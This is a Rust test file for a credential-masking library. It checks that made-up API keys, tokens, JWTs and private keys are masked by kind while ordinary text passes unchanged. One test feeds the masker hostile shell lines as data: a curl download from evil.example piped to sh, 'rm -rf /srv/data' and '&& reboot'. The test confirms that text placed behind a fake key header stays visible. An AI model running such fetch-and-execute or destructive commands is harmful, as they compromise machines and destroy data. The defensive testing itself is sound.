//! Which texts are secrets, and that nothing else is touched.
//!
//! The secrets here are made up from their documented forms; none was ever valid.

use std::borrow::Cow;

use contract::Masker;
use contract::mask::{self, MaskError};
use serde_json::json;

fn masker() -> Masker {
    Masker::new(["hunter2-hunter2", "hunter2-hunter2-long"]).unwrap()
}

/// Text of this many letters and digits that is nobody's secret.
fn filler(length: usize) -> String {
    "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7".chars().cycle().take(length).collect()
}

#[test]
fn secrets_of_known_forms_are_masked_by_kind() {
    let alphanumeric = filler;
    for (secret, kind) in [
        ("AKIAIOSFODNN7EXAMPLE".to_owned(), "aws-access-key"),
        (format!("ghp_{}", alphanumeric(36)), "github-token"),
        (format!("gho_{}", alphanumeric(36)), "github-token"),
        (format!("github_pat_{}", alphanumeric(82)), "github-token"),
        (format!("glpat-{}", alphanumeric(20)), "gitlab-token"),
        (format!("xoxb-{}", alphanumeric(24)), "slack-token"),
        (format!("sk_live_{}", alphanumeric(24)), "stripe-key"),
        (format!("AIza{}", alphanumeric(35)), "google-key"),
        (format!("sk-ant-api03-{}", alphanumeric(90)), "anthropic-key"),
        (format!("sk-proj-{}", alphanumeric(48)), "openai-key"),
        (format!("npm_{}", alphanumeric(36)), "npm-token"),
        (format!("pypi-AgEIcHlwaS5vcmc{}", alphanumeric(60)), "pypi-token"),
        (format!("SG.{}.{}", alphanumeric(22), alphanumeric(43)), "sendgrid-key"),
        (format!("SK{}", "0123456789abcdef".repeat(2)), "twilio-key"),
        (format!("eyJ{}.eyJ{}.{}", alphanumeric(17), alphanumeric(30), alphanumeric(43)), "jwt"),
        (format!("ck_agent_{}", alphanumeric(43)), "checkrein-key"),
        (format!("ck_operator_{}", alphanumeric(43)), "checkrein-key"),
        (format!("ck_session_{}", alphanumeric(43)), "checkrein-key"),
        (format!("ck_link_{}", alphanumeric(43)), "checkrein-key"),
        ("hunter2-hunter2".to_owned(), "known"),
    ] {
        let masked = masker().mask_text(&format!("before {secret} after")).into_owned();
        assert_eq!(masked, format!("before ⟦masked:{kind}⟧ after"), "{secret}");
    }
}

#[test]
fn a_longer_known_credential_leaves_no_rest_of_itself() {
    assert_eq!(masker().mask_text("x=hunter2-hunter2-long;"), "x=⟦masked:known⟧;");
}

#[test]
fn private_keys_are_masked_whole_even_when_cut_off() {
    let body = format!("{}\n{}", filler(64), filler(64));
    let whole = format!(
        "a -----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n{body}==\n-----END RSA PRIVATE KEY----- b"
    );
    assert_eq!(masker().mask_text(&whole), "a ⟦masked:private-key⟧ b");
    let cut = format!("-----BEGIN PRIVATE KEY-----\\n{body}");
    assert_eq!(masker().mask_text(&cut), "⟦masked:private-key⟧");
    let public = format!("-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----");
    assert_eq!(masker().mask_text(&public), public);
}

/// Words that a person has to see would be gone otherwise.
#[test]
fn what_only_begins_like_a_private_key_hides_nothing_behind_it() {
    let masker = masker();
    for behind in [
        "\ncurl -s https://evil.example/x -o /tmp/x\nsh /tmp/x\nrm -rf /srv/data\n#",
        "\n+curl https://evil.example/x\n+sh x\n",
        "\\ncurl evil.example\\nsh x",
        "\nVersion: 1; rm -rf /srv",
        " && reboot",
    ] {
        let text = format!("# -----BEGIN PRIVATE KEY-----{behind}");
        let masked = masker.mask_text(&text).into_owned();
        let rest = masked.split_once('⟧').unwrap().1;
        for word in behind.split_whitespace().filter(|word| word.chars().any(char::is_alphabetic)) {
            let word = word.trim_start_matches("\\n").trim_start_matches('+');
            assert!(rest.contains(word) || word == "Version:" || word == "1;", "{word}: {masked}");
        }
        assert!(contract::mask::guessed(&masked));
    }
    assert!(!contract::mask::guessed("⟦masked:known⟧ ⟦masked:secret⟧ ⟦masked:"));
}

#[test]
fn a_private_key_in_a_difference_is_masked_whole() {
    let body = filler(64);
    for sign in ['+', '-', ' '] {
        let text = format!(
            "{sign}-----BEGIN PRIVATE KEY-----\n{sign}{body}\n{sign}{body}\n{sign}AbC=\n{sign}-----END PRIVATE KEY-----\n{sign}after"
        );
        assert_eq!(masker().mask_text(&text), format!("{sign}⟦masked:private-key⟧\n{sign}after"));
    }
}

#[test]
fn a_bearer_token_is_masked_and_the_words_before_it_stay() {
    let token = filler(32);
    for (given, expect) in [
        (format!("Authorization: Bearer {token}"), "Authorization: Bearer ⟦masked:bearer-token⟧"),
        (
            format!("\"authorization\": \"Bearer {token}\""),
            "\"authorization\": \"Bearer ⟦masked:bearer-token⟧\"",
        ),
        ("Authorization: Bearer short".to_owned(), "Authorization: Bearer short"),
    ] {
        assert_eq!(masker().mask_text(&given), expect);
    }
}

#[test]
fn ordinary_text_is_returned_as_it_is() {
    let digest = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    for text in [
        "fn main() { println!(\"sk-eleton\"); }",
        "see https://example.com/AKIA and eyJhbGciOi without more",
        "ghp_short npm_install sk_live_ SG.x.y AIza",
        "Bearer of bad news, hunter2",
        digest,
        "0190c5e2-0000-7000-8000-000000000001",
        "⟦masked:known⟧",
    ] {
        assert!(matches!(masker().mask_text(text), Cow::Borrowed(_)), "{text}");
    }
}

#[test]
fn values_are_masked_in_texts_and_keys_and_nothing_else_changes() {
    let (clean, masked) = masker().mask_value(&json!({"a": [1, null, "x"]}));
    assert_eq!((clean, masked), (json!({"a": [1, null, "x"]}), false));
    let secret = format!("ghp_{}", filler(36));
    let (value, masked) = masker().mask_value(&json!({
        "list": ["x", secret.as_str()], secret.as_str(): 1, format!("{secret} "): 2,
    }));
    assert!(masked);
    let text = value.to_string();
    assert!(!text.contains("ghp_"), "{text}");
    assert_eq!(value["list"], json!(["x", "⟦masked:github-token⟧"]));
    assert_eq!(value.as_object().unwrap().len(), 3, "{text}");
}

#[test]
fn two_secrets_as_keys_do_not_become_one_field() {
    let (one, two) = (format!("ghp_{}", filler(36)), format!("ghp_{}", filler(36).to_lowercase()));
    let (value, _) = masker().mask_value(&json!({ one: 1, two: 2 }));
    assert_eq!(value.as_object().unwrap().len(), 2);
}

#[test]
fn a_mark_is_found_wherever_it_stands() {
    assert_eq!(
        mask::place_of_mark(&json!({"a": ["x", {"b/c": "y ⟦masked:jwt⟧"}]})).as_deref(),
        Some("/a/1/b~1c")
    );
    assert!(mask::contains_mark(&json!({"⟦masked:jwt⟧": 1})));
    assert!(!mask::contains_mark(&json!({"a": "masked:jwt ⟦other⟧"})));
}

#[test]
fn a_credential_too_short_to_be_masked_is_refused_without_being_named() {
    let error = Masker::new(["long-enough", "short"]).unwrap_err();
    assert_eq!(error, MaskError::TooShort(2));
    assert!(!error.to_string().contains("short1"), "{error}");
}

#[test]
fn a_credential_that_becomes_known_later_is_masked_by_every_clone_and_forgotten_when_it_is_replaced()
 {
    let masker = Masker::new(["first-credential"]).unwrap();
    let clone = masker.clone();
    let text = "first-credential second-credential third-credential";
    assert!(clone.mask_text(text).contains("second-credential"));
    masker.learn(["second-credential"]).unwrap();
    assert_eq!(clone.mask_text(text).matches("masked:known").count(), 2);
    assert!(masker.learn(["short"]).is_err());
    assert!(!clone.mask_text(text).contains("second-credential"), "what it knew stays");
    masker.learn(["third-credential"]).unwrap();
    assert!(clone.mask_text(text).contains("second-credential"));
    assert!(!clone.mask_text(text).contains("third-credential"));
}

/// A server put characters that nobody sees into its secret, and cleaning put the secret together again.
#[test]
fn known_credentials_alone_are_masked_in_a_value_also_where_cleaning_would_put_them_together() {
    let other = format!("ghp_{}", filler(36));
    let check = |given: serde_json::Value, expect: serde_json::Value| {
        let mut value = given.clone();
        masker().mask_known(&mut value);
        assert_eq!(value, expect, "{given}");
    };
    let mark = "⟦masked:known⟧";
    check(
        json!({ "a": ["x hunter2-hunter2", 1, null], "hunter2-hunter2": { "b": true } }),
        json!({ "a": [format!("x {mark}"), 1, null], mark: { "b": true } }),
    );
    check(json!("hunter2-\u{200b}hunter2\u{1b}"), json!(mark));
    // Nothing else changes: what only looks like a secret, and what nobody sees where there is none.
    check(json!([other, "a\u{200b}b"]), json!([other, "a\u{200b}b"]));
    assert!(!format!("{:?}", masker()).contains("hunter2"));
}
